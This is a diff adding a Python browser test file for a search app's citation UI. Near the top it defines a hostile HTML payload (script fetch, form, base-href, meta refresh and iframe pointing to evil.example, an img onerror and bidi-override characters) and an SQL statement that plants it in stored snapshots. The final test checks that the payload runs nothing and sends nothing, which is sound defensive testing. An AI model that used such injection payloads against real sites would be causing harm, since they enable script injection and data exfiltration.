@@ -1,0 +1,138 @@
+"""What people do with answers: ask, read, open a citation, go back."""
+
+import re
+from collections.abc import Callable
+from typing import Any
+
+import pytest
+
+from app.core import db
+from tests import builders
+from tests.browser.checking import layout, violations
+from tests.browser.seeds.searches import QUESTION
+from tests.browser.site import Site
+from tests.browser.waiting import until
+
+HOSTILE = (
+    '</pre></article><script>document.title="owned"; fetch("https://evil.example/")</script>'
+    '<form action="https://evil.example/"><button autofocus>Go</button></form><base href="//evil">'
+    '<meta http-equiv="refresh" content="0;url=https://evil.example/">'
+    '<iframe src="https://evil.example/"></iframe>'
+    '<img src="https://evil.example/x.png" onerror="fetch(1)">\u202edesrever\u2066'
+)
+DEFACE = "update snapshots set text = %(hostile)s || text || repeat(%(filling)s, 40000)"
+
+
+@pytest.fixture(scope="module", autouse=True)
+def _searches(site: Site) -> None:
+    site.seed("searches")
+
+
+def work(site: Site, page: Any) -> None:
+    """What a worker does about the search whose page is open."""
+    page.wait_for_url("**/searches/srch_*")
+    builders.work(site.settings, re.split("[/?#]", page.url)[4])
+
+
+def test_by_keys_alone_from_the_question_to_the_citation_and_back(visit: Any, site: Site) -> None:
+    page = visit("/")
+    page.keyboard.press("/")
+    page.keyboard.type(QUESTION)
+    page.keyboard.press("Enter")
+    work(site, page)
+    page.wait_for_selector("#cite-1")
+    page.keyboard.press("1")
+    page.wait_for_selector("[data-panel]")
+    until(page, lambda: page.evaluate("document.activeElement.id") == "panel-title")
+    assert page.url.endswith("?cite=1")
+    assert page.locator("#cite-1").get_attribute("aria-expanded") == "true"
+    hit = page.frame_locator("iframe.stored").locator("#hit")
+    assert "14 March 2024" in hit.locator("xpath=ancestor::article").inner_text()
+    box, frame = hit.bounding_box(), page.locator("iframe.stored").bounding_box()
+    assert frame["y"] <= box["y"] <= frame["y"] + frame["height"]
+    page.keyboard.press("Escape")
+    page.wait_for_selector("[data-panel]", state="detached")
+    assert page.evaluate("document.activeElement.id") == "cite-1"
+    assert "cite=" not in page.url
+    assert page.noted.wrong == []
+
+
+def test_without_scripts_a_question_is_asked_and_its_citation_opened(
+    visit: Any, site: Site
+) -> None:
+    page = visit("/", scripts=False)
+    page.locator("[data-search]").fill(QUESTION)
+    page.get_by_role("button", name="Search").click()
+    assert page.locator("noscript").count() or page.locator("#stage").is_visible()
+    work(site, page)
+    page.wait_for_selector("#cite-1")  # the page asks again by itself
+    page.locator("#cite-1").click()
+    page.wait_for_url("**?cite=1#panel")
+    assert "14 March 2024" in page.locator("[data-panel] mark").inner_text()
+    page.locator("[data-close]").click()
+    page.wait_for_url(re.compile(r"/searches/srch_\w+#cite-1$"))
+    assert page.locator("[data-panel]").count() == 0
+
+
+def test_a_newcomer_has_a_cited_answer_after_four_interactions(visit: Any, site: Site) -> None:
+    page = visit("/sign-up", as_=None)
+    page.get_by_label("E-mail").fill("grace@example.org")
+    page.get_by_label("Password").fill("a sentence is a good one")
+    page.get_by_role("button", name="Sign up").click()  # one: the form
+    page.wait_for_selector(".examples")
+    page.locator("[data-search]").fill(QUESTION)
+    page.keyboard.press("Enter")  # two: the question
+    work(site, page)
+    page.locator("#cite-1").click()  # three: the citation
+    page.wait_for_selector("[data-panel]")
+    assert page.locator("[data-panel] .chip").first.inner_text().endswith("matches stored page")
+
+
+def test_the_stored_page_is_fit_to_be_seen(
+    visit: Any, chromium: Any, site: Site, check: Callable[..., None]
+) -> None:
+    page = visit(f"/searches/{site.ids['answered']}?cite=1")
+    address = site.address + page.locator("#open-stored").get_attribute("href").split("#")[0]
+    cookies = page.context.cookies()
+    for width, scheme in ((1280, "light"), (390, "dark")):
+        # Its policy forbids all scripts, and so the one that looks for faults.
+        context = chromium.new_context(
+            bypass_csp=True, color_scheme=scheme, viewport={"width": width, "height": 900}
+        )
+        context.add_cookies(cookies)
+        for name, end in (("stored-page", ""), ("stored-page-framed", "&frame=1")):
+            stored = context.new_page()
+            stored.goto(address + end)
+            stored.scheme = scheme
+            check.screenshot(stored, name)  # type: ignore[attr-defined]
+            assert [*violations(stored), *layout(stored)] == []
+        context.close()
+
+
+def test_the_citation_that_is_open_can_be_stepped_through(visit: Any, site: Site) -> None:
+    page = visit(f"/searches/{site.ids['disputed']}?cite=1")
+    page.keyboard.press("]")
+    page.wait_for_url("**?cite=2")
+    page.wait_for_selector("[data-return=cite-2]")
+    page.keyboard.press("[")
+    page.wait_for_url("**?cite=1")
+    page.go_back()
+    page.wait_for_url("**?cite=2")
+
+
+def test_a_hostile_page_does_nothing_and_sends_nothing(visit: Any, site: Site) -> None:
+    answered = f"/searches/{site.ids['disputed']}"
+    with db.transaction() as tx:
+        tx.execute(
+            DEFACE, {"hostile": HOSTILE, "filling": "\n\nAll about barns and <b>their</b> owls."}
+        )
+    page = visit(f"{answered}?cite=1")
+    stored = page.locator("#open-stored").get_attribute("href")
+    page.frame_locator("iframe.stored").locator("text=evil.example").first.wait_for()
+    alone = visit(f"{stored.split('#')[0]}&all=1")
+    assert "<script>document.title" in alone.locator("article").inner_text()
+    assert alone.title().startswith("Stored page")
+    for opened in (page, alone):
+        assert opened.noted.foreign == []
+        assert opened.noted.errors == []
+        assert [frame.url for frame in opened.frames if "evil" in frame.url] == []
